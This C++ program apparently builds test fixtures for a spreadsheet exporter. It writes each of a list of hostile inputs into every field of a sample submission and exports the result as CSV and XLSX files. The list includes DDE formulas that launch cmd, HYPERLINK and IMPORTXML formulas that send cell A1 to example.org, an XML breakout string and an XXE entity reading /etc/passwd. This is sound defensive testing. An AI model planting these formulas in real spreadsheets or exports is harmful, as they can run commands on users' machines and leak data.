// SPDX-License-Identifier: MIT
// workbook_example FOLDER: a night of people who try to have a spreadsheet run what they wrote.
// FOLDER gets the tables, and attempts.txt with one attempt a line in hexadecimal digits, for
// read_workbook.py.
#include <fmt/format.h>

#include <cstdio>
#include <filesystem>

#include "base/message.hpp"
#include "base/publish.hpp"
#include "example.hpp"

using namespace rangecheck;
using namespace rangecheck::report;

namespace {

std::vector<std::string> attempts() {
  using namespace std::string_literals;
  std::vector<std::string> all = {
      "=1+1",
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
      "=WEBSERVICE(\"http://example.org/\")",
      "=DDE(\"cmd\";\"/C calc\";\"x\")",
      "=IMPORTXML(CONCAT(\"http://example.org/?\",A1),\"//a\")",
      "{=SUM(A1:A9)}",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "   =1+1",
      "＝1+1",
      "＋1",
      "－1+1",
      "＠SUM(1)",
      "'=1+1",
      "a\",\"=1+1",
      "a\"\r\n=1+1,\"b",
      "a\r\n=1+1\r\n",
      "a,=1+1",
      "\"=1+1\"",
      "http://example.org/",
      "mailto:ann@example.org",
      "external:c:\\temp\\a.xlsx",
      "<f>1+1</f>",
      "]]></t></is></c><c r=\"A1\"><f>1+1</f></c>",
      "&#61;1+1 &lt;b&gt; &amp;",
      "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
      "_x003D_1+1",
      "_x005F_x003D_1+1",
      "a_x0009_b_x000A__x0000_",
      "nul \0 inside"s,
      "\x01\x02\x08\x0b\x0c\x1f escape \x1b[31m",
      "delete \x7f and \xc2\x85 next line",
      "right to left \xe2\x80\xae=1+1",
      "isolate \xe2\x81\xa7=1+1\xe2\x81\xa9",
      "byte order \xef\xbb\xbf=1+1",
      "no character \xef\xbf\xbe\xef\xbf\xbf",
      "lone surrogate \xed\xa0\x80\xed\xb0\x80",
      "overlong \xc0\xbd\x31",
      "cut \xe2\x82",
      "not utf-8 \xff\xfe\x80",
      "line \xe2\x80\xa8 paragraph \xe2\x80\xa9",
      "007",
      "1e5",
      "-12.5",
      "TRUE",
      "#REF!",
      " blanks at both ends ",
      "Zoë 黄 \xf0\x9f\x8f\x8c",
      std::string(32767, 'x'),
      std::string(32768, 'x'),
      "=" + std::string(40000, '1'),
  };
  // Two UTF-16 units each: the cut may not go through one.
  std::string astral = "a";
  for (int i = 0; i < 20000; ++i) astral += "\xf0\x9f\x8f\x8c";
  all.push_back(astral);
  return all;
}

/// A submission all of whose words are `text`.
Graded written_as(const std::string& text) {
  Graded graded = example_graded();
  graded.submission = graded.student = graded.name = graded.club = graded.swing = text;
  graded.received = text;
  graded.grade.profile_title = graded.grade.profile_id = text;
  graded.grade.results = {length_result(), unseen_result(text, text), observed_result()};
  graded.grade.results[0].check.title = text;
  graded.grade.results[1].reason = graded.grade.results[1].remedy = as_written(text);
  graded.grade.results[2].word = text;
  graded.grade.results[2].check.accept = {text};
  graded.grade.work_on = {1};
  graded.grade.notes = {as_written(text)};
  graded.notes = {as_written(text)};
  return graded;
}

SetAside set_aside_for(const std::string& text) {
  Error error{Fault::unreadable, text, {}, text};
  return {text, error};
}

bool write_all(const std::filesystem::path& folder) {
  std::vector<Graded> graded;
  std::vector<SetAside> set_aside;
  std::string listed;
  for (const auto& attempt : attempts()) {
    for (const unsigned char byte : attempt) listed += fmt::format("{:02x}", byte);
    listed += "\n";
    graded.push_back(written_as(attempt));
    set_aside.push_back(set_aside_for(attempt));
  }
  return publish(folder / "attempts.txt", listed) &&
         publish(folder / "checks.csv", long_text(graded)) &&
         publish(folder / "submissions.csv", wide_text(graded)) &&
         publish_made(folder / "rangecheck.xlsx", [&](const auto& file) {
           return write_workbook(file, entries_of(graded), set_aside);
         });
}

}  // namespace

int main(int count, char** words) {
  if (count != 2) return 2;
  return write_all(words[1]) ? 0 : 1;
}
